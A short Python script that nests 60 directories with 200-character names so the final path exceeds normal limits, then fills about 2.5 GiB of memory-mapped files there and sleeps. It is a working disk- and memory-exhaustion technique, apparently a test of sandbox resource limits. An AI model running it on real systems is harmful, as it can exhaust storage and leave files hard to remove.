# Fills files in a folder so deep that no path leads there, through maps of memory.
import mmap
import os
import time

for _ in range(60):
    os.mkdir("d" * 200)
    os.chdir("d" * 200)
for number in range(40):
    with open(f"{number}", "w+b") as file:
        file.truncate(1 << 26)
        with mmap.mmap(file.fileno(), 1 << 26) as shared:
            for page in range(0, 1 << 26, 1 << 12):
                shared[page] = 1
time.sleep(60)
